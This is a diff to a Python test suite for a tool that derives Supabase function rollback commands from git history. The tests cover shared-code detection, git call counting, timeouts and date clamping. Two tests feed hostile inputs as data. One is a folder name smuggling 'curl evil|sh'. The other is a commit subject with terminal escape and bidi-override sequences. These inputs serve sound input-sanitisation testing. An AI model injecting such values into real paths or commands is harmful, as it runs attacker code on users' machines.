@@ -7,7 +7,7 @@ import os
 import shutil
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -350,6 +350,129 @@ def test_shared_function_code_redeploys_every_function(tmp_path: Path) -> None:
     assert function_rollback_commands(c) == [f"git checkout {first}", "supabase functions deploy"]
 
 
+@pytest.fixture
+def git_calls(monkeypatch: pytest.MonkeyPatch) -> list[tuple[list[str], int]]:
+    """Every git command the source runs, with the bytes it printed (a spy on the real runner)."""
+    from warroom.sources import git as gitsource
+
+    calls: list[tuple[list[str], int]] = []
+    real = gitsource._Git.run
+
+    def spy(self: object, cmd: list[str], sink: Callable[[bytes], None], stdin: object = None) -> None:
+        read = 0
+
+        def counting(chunk: bytes) -> None:
+            nonlocal read
+            read += len(chunk)
+            sink(chunk)
+
+        try:
+            real(self, cmd, counting, stdin)  # type: ignore[arg-type]
+        finally:
+            calls.append((list(cmd), read))
+
+    monkeypatch.setattr(gitsource._Git, "run", spy)
+    return calls
+
+
+def subcommand(cmd: list[str]) -> str:
+    return next(a for a in cmd if a in ("log", "cat-file"))
+
+
+@pytest.mark.parametrize("folder", ["shared", "utils", "_utils", "lib-common"])
+def test_a_folder_without_an_entrypoint_is_shared_code(tmp_path: Path, folder: str) -> None:
+    # `Y` must not copy `supabase functions deploy utils` for a function that does not exist.
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=1), {"supabase/functions/send-sms/index.ts": "v1"})
+    first = commit(repo, "a function", NOW - timedelta(minutes=30), {"supabase/functions/send-sms/x.ts": "1"})
+    commit(repo, "helpers", NOW - timedelta(minutes=5), {f"supabase/functions/{folder}/db.ts": "x"})
+    c = snapshot(repo).commits[0]
+    assert c.functions == () and c.touches_shared_functions and c.marks == ("functions",)
+    assert function_rollback_commands(c) == [f"git checkout {first}", "supabase functions deploy"]
+
+
+def test_a_function_is_a_folder_with_an_entrypoint_at_that_commit(tmp_path: Path) -> None:
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=2), {"README.md": "hi"})
+    # Entrypoints in any of the names Supabase bundles; a change to any file of the folder counts.
+    commit(
+        repo,
+        "entrypoints",
+        NOW - timedelta(minutes=50),
+        {
+            "supabase/functions/a-ts/index.ts": "x",
+            "supabase/functions/b-js/index.js": "x",
+            "supabase/functions/c-tsx/index.tsx": "x",
+            "supabase/functions/d-mjs/index.mjs": "x",
+            "supabase/functions/e-jsx/index.jsx": "x",
+        },
+    )
+    commit(repo, "helper only", NOW - timedelta(minutes=40), {"supabase/functions/b-js/util.js": "y"})
+    # A folder that becomes a function later is shared code until it has its entrypoint.
+    commit(repo, "new fn, step 1", NOW - timedelta(minutes=30), {"supabase/functions/later/util.ts": "u"})
+    commit(repo, "new fn, step 2", NOW - timedelta(minutes=20), {"supabase/functions/later/index.ts": "i"})
+    # Deleting a function: at that commit it holds no entrypoint, so every function is redeployed
+    # (which brings the deleted one back after `git checkout <parent>`).
+    commit(repo, "drop c", NOW - timedelta(minutes=10), delete=("supabase/functions/c-tsx/index.tsx",))
+    # Shared code and a function together: the rollback redeploys every function.
+    commit(
+        repo,
+        "mixed",
+        NOW - timedelta(minutes=5),
+        {"supabase/functions/_shared/db.ts": "s", "supabase/functions/a-ts/index.ts": "z"},
+    )
+    subj = by_subject(snapshot(repo))
+    assert subj["entrypoints"].functions == ("a-ts", "b-js", "c-tsx", "d-mjs", "e-jsx")
+    assert not subj["entrypoints"].touches_shared_functions
+    assert subj["helper only"].functions == ("b-js",) and not subj["helper only"].touches_shared_functions
+    assert subj["new fn, step 1"].functions == () and subj["new fn, step 1"].touches_shared_functions
+    assert subj["new fn, step 2"].functions == ("later",)
+    assert not subj["new fn, step 2"].touches_shared_functions
+    assert subj["drop c"].functions == () and subj["drop c"].touches_shared_functions
+    mixed = subj["mixed"]
+    assert mixed.functions == ("a-ts",) and mixed.touches_shared_functions
+    cmds = function_rollback_commands(mixed)
+    assert cmds is not None and cmds[1:] == ["supabase functions deploy"]
+    cmds = function_rollback_commands(subj["helper only"])
+    assert cmds is not None and cmds[1:] == ["supabase functions deploy b-js"]
+
+
+def test_entrypoints_are_looked_up_once_per_commit_in_one_process(
+    tmp_path: Path, git_calls: list[tuple[list[str], int]]
+) -> None:
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
+    for i in range(6):
+        fn = f"supabase/functions/fn{i}"
+        commit(repo, f"c{i}", NOW - timedelta(minutes=50 - i), {f"{fn}/index.ts": "x", f"{fn}/u.ts": "u"})
+    first = snapshot(repo)
+    assert [c.functions for c in first.commits[:6]] == [(f"fn{i}",) for i in range(5, -1, -1)]
+    # One walk, one read of the commits not seen, one listing of their paths, one lookup of the
+    # entrypoints of every function folder they touched.
+    assert [subcommand(cmd) for cmd, _ in git_calls] == ["log", "log", "log", "cat-file"]
+    git_calls.clear()
+    assert snapshot(repo) == first
+    assert [subcommand(cmd) for cmd, _ in git_calls] == ["log"]  # known commits: the walk only
+
+
+def test_deploy_tags_off_never_asks_git_for_tags(
+    project: dict, git_calls: list[tuple[list[str], int]]
+) -> None:
+    repo: Path = project["repo"]  # type: ignore[assignment]
+    with_tags = by_subject(snapshot(repo))
+    assert with_tags["Fix typo in docs"].tags == ("release-42",)
+    walk = git_calls[0][0]
+    assert any("%D" in a for a in walk) and "--decorate-refs=refs/tags/" in walk
+    git_calls.clear()
+    subj = by_subject(snapshot(repo, deploy_tags=False))
+    assert subj["Fix typo in docs"].tags == () and not subj["Fix typo in docs"].is_deploy
+    assert git_calls, "the source ran git"
+    for cmd, _read in git_calls:
+        assert not any("%D" in a or "%d" in a or a.startswith("--decorate") for a in cmd), cmd
+        if subcommand(cmd) == "log":
+            assert "--no-decorate" in cmd
+
+
 def test_hostile_paths_never_reach_a_command(tmp_path: Path) -> None:
     repo = init_repo(tmp_path / "r")
     commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
@@ -360,9 +483,11 @@ def test_hostile_paths_never_reach_a_command(tmp_path: Path) -> None:
         {"supabase/functions/x;curl evil|sh/index.ts": "x", "supabase/functions/ok-fn/index.ts": "y"},
     )
     c = snapshot(repo).commits[0]
-    assert c.functions == ("ok-fn",)
+    # A folder whose name no function can have is not a function, whatever it holds: it counts as
+    # shared code, so the rollback redeploys every function and names none.
+    assert c.functions == ("ok-fn",) and c.touches_shared_functions
     cmds = function_rollback_commands(c)
-    assert cmds is not None and cmds[1:] == ["supabase functions deploy ok-fn"]
+    assert cmds is not None and cmds[1:] == ["supabase functions deploy"]
     assert not any(";" in cmd or "|" in cmd for cmd in cmds)
 
 
@@ -475,11 +600,11 @@ def test_untrusted_text_is_cleaned(tmp_path: Path) -> None:
         repo,
         "\x1b[2J\x1b]0;pwned\x07 deploy \u202eevil\u202c [bold]x[/bold]",
         NOW - timedelta(minutes=1),
-        {"supabase/functions/f/\x1b[31mx.ts": "x"},
+        {"supabase/functions/f/\x1b[31mx.ts": "x", "supabase/functions/f/index.ts": "x"},
     )
     c = snapshot(repo).commits[0]
     assert c.subject == "deploy evil [bold]x[/bold]"
-    assert c.paths == ("supabase/functions/f/x.ts",)
+    assert c.paths == ("supabase/functions/f/x.ts", "supabase/functions/f/index.ts")
     assert all("\x1b" not in p for p in c.paths)
     assert c.functions == ("f",)
 
@@ -550,6 +675,24 @@ def test_commit_dated_in_the_future_is_recent(tmp_path: Path) -> None:
     assert c.is_recent and c.age(NOW) == timedelta(0)
 
 
+def test_absurd_commit_dates_are_clamped(tmp_path: Path) -> None:
+    # A hand-made commit can carry any number as its date; git prints it as it is.
+    from zoneinfo import ZoneInfo
+
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
+    tree = git(repo, "rev-parse", "HEAD^{tree}")
+    for stamp in ("99999999999999999999", "-5"):
+        who = f"A <a@example.com> {stamp} +0000"
+        body = f"tree {tree}\nparent {git(repo, 'rev-parse', 'HEAD')}\nauthor {who}\ncommitter {who}\n\nd {stamp}\n"
+        sha = git(repo, "hash-object", "-t", "commit", "-w", "--stdin", "--literally", input=body.encode())
+        git(repo, "update-ref", "HEAD", sha)
+    epoch, far = snapshot(repo).commits[:2]
+    assert far.subject == "d 99999999999999999999" and far.committed_at.year == 9000 and far.is_recent
+    assert far.committed_at.astimezone(ZoneInfo("Pacific/Kiritimati")).year == 9000
+    assert epoch.committed_at == datetime(1970, 1, 1, tzinfo=UTC) and not epoch.is_recent
+
+
 # -- problems -----------------------------------------------------------------------------------------
 
 
@@ -590,6 +733,21 @@ def test_git_missing(tmp_path: Path, project: dict) -> None:
     env["PATH"] = str(tmp_path / "no-bin")
     out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "git_missing | git is not installed (or not on PATH)"
+
+
+def test_repository_removed_while_it_is_read(project: dict, monkeypatch: pytest.MonkeyPatch) -> None:
+    from warroom.sources import git as gitsource
+
+    repo: Path = project["repo"]  # type: ignore[assignment]
+    real = gitsource._Git.walk
+
+    def vanish(self: gitsource._Git, *args: object) -> object:
+        shutil.rmtree(repo)
+        return real(self, *args)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(gitsource._Git, "walk", vanish)
+    p = problem(repo)
+    assert p.kind == "failed" and p.message.startswith(f"{repo}: ") and "No such file" in p.message
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give the repository to another user")
@@ -658,6 +816,30 @@ def test_no_git_process_is_left_behind(project: dict) -> None:
     for _ in range(5):
         snapshot(repo)
         assert commits_between(settings(repo), NOW - timedelta(hours=4), NOW)
+    assert not git_children()
+
+
+def test_git_that_does_not_answer_in_time_is_stopped(project: dict, monkeypatch: pytest.MonkeyPatch) -> None:
+    from warroom.sources import git as gitsource
+
+    repo: Path = project["repo"]  # type: ignore[assignment]
+    monkeypatch.setattr(gitsource, "GIT_TIMEOUT", 0.0)
+    p = problem(repo)
+    assert p.kind == "failed" and p.message == f"{repo}: git log failed: no answer within 0 s"
+    assert not git_children()
+
+
+def test_git_complaining_at_length_is_still_read(project: dict) -> None:
+    # 3,000 tags pointing at a corrupt object: git prints ~390 KB of errors while it decorates
+    # (more than a pipe holds) and still succeeds; its output and errors are read together.
+    repo: Path = project["repo"]  # type: ignore[assignment]
+    sha = "0123456789abcdef0123456789abcdef01234567"
+    (repo / ".git" / "objects" / sha[:2]).mkdir(exist_ok=True)
+    (repo / ".git" / "objects" / sha[:2] / sha[2:]).write_bytes(b"garbage")
+    refs = "".join(f"{sha} refs/tags/broken-{i:05d}\n" for i in range(3000))
+    (repo / ".git" / "packed-refs").write_text("# pack-refs with: peeled fully-peeled sorted \n" + refs)
+    snap = snapshot(repo)
+    assert len(snap.commits) == 6 and snap.commits[2].tags == ("release-42",)
     assert not git_children()
 
 
